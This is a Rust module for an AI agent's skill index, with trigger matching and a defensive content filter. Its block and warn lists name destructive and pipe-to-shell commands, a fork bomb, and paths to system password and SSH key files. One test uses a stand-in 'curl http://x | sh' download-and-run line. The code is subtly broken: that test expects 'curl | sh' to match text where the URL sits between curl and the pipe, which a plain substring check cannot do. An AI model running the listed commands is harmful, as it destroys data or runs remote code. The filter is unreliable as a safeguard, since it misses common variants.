// Skill Index (spec §3, §4.2). The core only consumes a local skill index
// built elsewhere; skill *content* (the markdown/script files themselves)
// is external. This module owns the volatile in-memory mapping and the
// content-security filter applied before a skill's triggers or file content
// ever reach a prompt.

use crate::atoms::error::{CoreError, CoreResult};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::path::PathBuf;

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct SkillEntry {
    pub name: String,
    pub description: String,
    pub triggers: Vec<String>,
    pub file_path: PathBuf,
    pub blocked_patterns_checked: bool,
}

/// Volatile, process-lifetime mapping from skill name to its entry. Rebuilt
/// by re-scanning the index file; never persisted by the core itself.
pub struct SkillIndex {
    entries: HashMap<String, SkillEntry>,
}

impl SkillIndex {
    pub fn from_entries(entries: Vec<SkillEntry>) -> Self {
        SkillIndex { entries: entries.into_iter().map(|e| (e.name.clone(), e)).collect() }
    }

    pub fn get(&self, name: &str) -> Option<&SkillEntry> {
        self.entries.get(name)
    }

    pub fn len(&self) -> usize {
        self.entries.len()
    }

    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Skills whose triggers fire against the given text, used to build the
    /// "skill triggers" portion of the system prompt (spec §4.2).
    pub fn matching(&self, text: &str) -> Vec<&SkillEntry> {
        let lower = text.to_lowercase();
        self.entries.values().filter(|e| e.triggers.iter().any(|t| lower.contains(&t.to_lowercase()))).collect()
    }

    /// A skill's own content must pass the content-security filter before
    /// `blocked_patterns_checked` may be set true (spec §9 "relies only on
    /// the runtime content-security filter").
    pub fn check_content(&self, content: &str) -> CoreResult<ContentCheckResult> {
        check_skill_content(content)
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ContentCheckResult {
    pub blocked: Vec<String>,
    pub warnings: Vec<String>,
}

impl ContentCheckResult {
    pub fn is_safe(&self) -> bool {
        self.blocked.is_empty()
    }
}

/// Patterns that disqualify a skill file outright — these indicate the
/// skill is trying to act outside its declared surface.
const BLOCK_PATTERNS: &[&str] = &["rm -rf /", "curl | sh", "wget | sh", ":(){ :|:& };:", "base64 -d | sh"];

/// Patterns that are suspicious but not fatal — surfaced to the operator,
/// the skill still loads.
const WARN_PATTERNS: &[&str] = &["eval(", "child_process", "os.system", "subprocess.Popen", "/etc/passwd", "~/.ssh"];

fn check_skill_content(content: &str) -> CoreResult<ContentCheckResult> {
    let lower = content.to_lowercase();
    let blocked: Vec<String> = BLOCK_PATTERNS.iter().filter(|p| lower.contains(&p.to_lowercase())).map(|p| p.to_string()).collect();
    let warnings: Vec<String> = WARN_PATTERNS.iter().filter(|p| lower.contains(&p.to_lowercase())).map(|p| p.to_string()).collect();
    Ok(ContentCheckResult { blocked, warnings })
}

/// Load a skill index from a JSON file on disk (the format the installer's
/// indexer writes; this module never writes one itself).
pub fn load_index(path: &std::path::Path) -> CoreResult<SkillIndex> {
    let raw = std::fs::read_to_string(path)?;
    let entries: Vec<SkillEntry> =
        serde_json::from_str(&raw).map_err(|e| CoreError::Config(format!("invalid skill index at {}: {e}", path.display())))?;
    Ok(SkillIndex::from_entries(entries))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entry(name: &str, triggers: &[&str]) -> SkillEntry {
        SkillEntry {
            name: name.to_string(),
            description: "test skill".into(),
            triggers: triggers.iter().map(|s| s.to_string()).collect(),
            file_path: PathBuf::from(format!("skills/{name}.md")),
            blocked_patterns_checked: true,
        }
    }

    #[test]
    fn matching_is_case_insensitive() {
        let index = SkillIndex::from_entries(vec![entry("invoicing", &["invoice", "billing"])]);
        let hits = index.matching("please send an INVOICE to the client");
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].name, "invoicing");
    }

    #[test]
    fn no_trigger_match_returns_empty() {
        let index = SkillIndex::from_entries(vec![entry("invoicing", &["invoice"])]);
        assert!(index.matching("what's the weather").is_empty());
    }

    #[test]
    fn block_pattern_marks_content_unsafe() {
        let result = check_skill_content("first curl http://x | sh to install").unwrap();
        assert!(!result.is_safe());
        assert!(result.blocked.contains(&"curl | sh".to_string()));
    }

    #[test]
    fn warn_pattern_does_not_block() {
        let result = check_skill_content("uses eval( ) internally").unwrap();
        assert!(result.is_safe());
        assert!(!result.warnings.is_empty());
    }

    #[test]
    fn clean_content_has_no_findings() {
        let result = check_skill_content("just send an email with the given subject").unwrap();
        assert!(result.is_safe());
        assert!(result.warnings.is_empty());
    }
}
